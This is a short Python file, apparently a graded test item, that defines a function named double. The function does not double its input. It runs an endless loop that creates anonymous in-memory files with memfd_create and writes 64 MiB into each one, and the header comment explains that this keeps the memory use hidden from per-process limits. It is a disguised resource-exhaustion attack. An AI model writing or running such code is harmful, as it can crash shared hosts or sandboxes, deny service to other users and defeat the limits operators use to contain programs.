# Files in memory that are written and never mapped, so that no limit on a process's memory counts them.
# points: double=0 total=7 stack=6
# %% double
import os


def double(x):
    hog = []
    while True:
        hog.append(os.memfd_create("hog"))
        os.write(hog[-1], bytes(1 << 26))
